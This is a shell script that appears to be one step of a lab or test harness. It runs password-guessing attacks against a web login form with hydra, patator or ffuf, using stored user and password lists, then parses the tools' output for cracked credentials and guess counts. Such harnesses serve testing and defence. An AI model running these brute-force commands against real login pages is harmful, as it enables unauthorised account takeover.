# Guess with the tool's own way to go through the lists: password by password for each user.
await marked
phase guess
user=$(head -n 1 /root/users)

hydra_() {
	set -- -I -V -P /root/passwords
	case $TASK in
	one-user) set -- "$@" -l "$user" ;;
	many-users) set -- "$@" -L /root/users ;;
	esac
	if [ "$PACE" -gt 0 ]; then
		set -- "$@" -t 1 -c "$PACE"
	else
		set -- "$@" -t "$PARALLEL"
	fi
	[ "$SUCCESS" != stop ] || set -- "$@" -f
	hydra {{if not .network.ipv4}}-6 {{end}}"$@" "$WEB_ADDRESS" http-post-form '/login.php:name=^USER^&password=^PASS^:F=do not fit'
}

patator_() {
	# It needs some entry for a name, and writes its progress for every line that it can read.
	set -- url="http://$WEB_NAME/login.php" resolve="$WEB_NAME:$WEB_ADDRESS" method=POST accept_cookie=1 -x ignore:code=403
	case $TASK in
	one-user) set -- "$@" body="name=$user&password=FILE0" 0=/root/passwords ;;
	many-users) set -- "$@" body="name=FILE0&password=FILE1" 0=/root/users 1=/root/passwords ;;
	esac
	if [ "$PACE" -gt 0 ]; then
		set -- "$@" -t 1 --rate-limit="$PACE"
	else
		set -- "$@" -t "$PARALLEL"
	fi
	[ "$SUCCESS" != stop ] || set -- "$@" -x quit:code=303
	mkfifo /root/nothing
	exec 0<>/root/nothing
	patator http_fuzz "$@"
}

ffuf_() {
	set -- -v -X POST -H 'Content-Type: application/x-www-form-urlencoded' -mc 303 -u "http://$WEB_NAME/login.php"
	case $TASK in
	one-user) set -- "$@" -w /root/passwords:PASS -d "name=$user&password=PASS" ;;
	many-users) set -- "$@" -w /root/passwords:PASS -w /root/users:USER -d "name=USER&password=PASS" ;;
	esac
	if [ "$PACE" -gt 0 ]; then
		set -- "$@" -t 1 -p "$PACE"
	else
		set -- "$@" -t "$PARALLEL"
	fi
	ffuf "$@" </dev/null
}

status=0
"${IMPLEMENTATION}_" >/root/said 2>&1 || status=$?
tr '\r' '\n' </root/said >/root/plain
tail -c 4000 /root/plain
echo "status $status"
case $IMPLEMENTATION in
hydra)
	found=$(sed -n 's/^\[80\]\[http-post-form\] host: .* login: \(.*\)   password: \(.*\)$/\1 \2/p' /root/plain)
	guesses=$(grep -c '^\[ATTEMPT\]' /root/plain || true)
	;;
patator)
	found=$(sed -n 's/^.* INFO - 303 [^|]*| \([^ |]*\) *|.*$/\1/p' /root/plain |
		if [ "$TASK" = one-user ]; then sed "s/^/$user /"; else tr ':' ' '; fi)
	guesses=$(sed -n 's,^.*Hits/Done/Skip/Fail/Size: [0-9]*/\([0-9]*\)/.*,\1,p' /root/plain)
	;;
ffuf)
	[ "$TASK" = many-users ] || echo " * USER: $user" >>/root/plain
	found=$(grep -q '\* PASS: ' /root/plain && echo "$(sed -n 's/^.*\* USER: //p' /root/plain | head -n 1) $(sed -n 's/^.*\* PASS: //p' /root/plain)" || true)
	guesses=$(sed -n 's,^.*Progress: \[\([0-9]*\)/.*,\1,p' /root/plain | tail -n 1)
	;;
esac
outcome found="${found:-none}"
outcome guesses="$guesses"
signal guessed
